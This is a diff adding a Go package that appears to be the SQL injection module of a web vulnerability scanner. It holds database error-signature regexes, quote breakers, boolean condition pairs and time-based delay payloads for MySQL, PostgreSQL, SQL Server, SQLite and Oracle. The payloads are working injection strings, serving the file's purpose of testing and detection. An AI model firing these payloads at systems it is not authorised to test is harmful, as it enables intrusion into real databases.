@@ -0,0 +1,82 @@
+// Package sqli finds SQL injection through database errors, responses which
+// follow injected conditions and injected delays.
+package sqli
+
+import (
+	"fmt"
+	"regexp"
+	"strconv"
+	"time"
+)
+
+const (
+	MySQL      = "MySQL"
+	PostgreSQL = "PostgreSQL"
+	MSSQL      = "Microsoft SQL Server"
+	SQLite     = "SQLite"
+	Oracle     = "Oracle"
+)
+
+// kDelay is the delay injected by time based payloads.
+const kDelay = 5 * time.Second
+
+type signature struct {
+	dbms    string
+	pattern *regexp.Regexp
+}
+
+// kSignatures recognize error messages of the databases.
+var kSignatures = []signature{
+	{MySQL, regexp.MustCompile(`SQL syntax.*?MySQL|Warning.*?\Wmysqli?_|MySQLSyntaxErrorException|valid MySQL result|check the manual that (?:corresponds to|fits) your (?:MySQL|MariaDB) server version|Unknown column '[^ ]+' in 'field list'|com\.mysql\.jdbc`)},
+	{PostgreSQL, regexp.MustCompile(`PostgreSQL.*?ERROR|Warning.*?\Wpg_|valid PostgreSQL result|Npgsql\.|PG::SyntaxError:|org\.postgresql\.util\.PSQLException|ERROR:\s+syntax error at or near|unterminated quoted string at or near`)},
+	{MSSQL, regexp.MustCompile(`Driver.*? SQL[\-_ ]*Server|OLE DB.*? SQL Server|\bSQL Server[^<"]+Driver|Warning.*?\W(?:mssql|sqlsrv)_|System\.Data\.SqlClient\.SqlException|Unclosed quotation mark after the character string|Microsoft SQL Native Client error|Incorrect syntax near`)},
+	{SQLite, regexp.MustCompile(`SQLite/JDBCDriver|SQLite\.Exception|System\.Data\.SQLite\.SQLiteException|Warning.*?\W(?:sqlite_|SQLite3::)|\[SQLITE_ERROR\]|SQLite error \d+:|sqlite3\.OperationalError:|SQLite3::SQLException|unrecognized token: "|near "[^"]*": syntax error`)},
+	{Oracle, regexp.MustCompile(`\bORA-\d{5}|Oracle error|Oracle.*?Driver|Warning.*?\W(?:oci|ora)_|quoted string not properly terminated|SQL command not properly ended`)},
+}
+
+// kBreakers are appended to values to break out of the query.
+var kBreakers = []string{`'`, `"`, `')`, `\`}
+
+// condition is a pair of payloads appended to a value, which keep or
+// change the result of the query.
+type condition struct {
+	context      string
+	keep, change string
+}
+
+var kConditions = []condition{
+	{"numeric", " AND 1=1", " AND 1=2"},
+	{"single quoted string", "' AND '1'='1", "' AND '1'='2"},
+	{"double quoted string", `" AND "1"="1`, `" AND "1"="2`},
+}
+
+// delay is a payload which sleeps for the given number of seconds.
+type delay struct {
+	dbms    string
+	payload func(seconds int) string
+}
+
+var kDelays = []delay{
+	{MySQL, func(s int) string { return fmt.Sprintf("' AND SLEEP(%d)-- -", s) }},
+	{MySQL, func(s int) string { return fmt.Sprintf(" AND SLEEP(%d)", s) }},
+	{PostgreSQL, func(s int) string { return fmt.Sprintf("'; SELECT pg_sleep(%d)--", s) }},
+	{PostgreSQL, func(s int) string { return fmt.Sprintf(" AND 1=(SELECT 1 FROM pg_sleep(%d))", s) }},
+	{MSSQL, func(s int) string { return fmt.Sprintf("'; WAITFOR DELAY '0:0:%d'--", s) }},
+	{SQLite, func(s int) string {
+		// SQLite cannot sleep, a large blob takes a while to build.
+		return "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(" + strconv.Itoa(s*100000000) + "/2))))--"
+	}},
+	{Oracle, func(s int) string { return fmt.Sprintf("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',%d)--", s) }},
+}
+
+// findError returns the database and the message of an error which is in
+// body but not in baseline.
+func findError(body, baseline []byte) (string, string, bool) {
+	for _, signature := range kSignatures {
+		loc := signature.pattern.FindIndex(body)
+		if loc != nil && !signature.pattern.Match(baseline) {
+			return signature.dbms, string(body[loc[0]:loc[1]]), true
+		}
+	}
+	return "", "", false
+}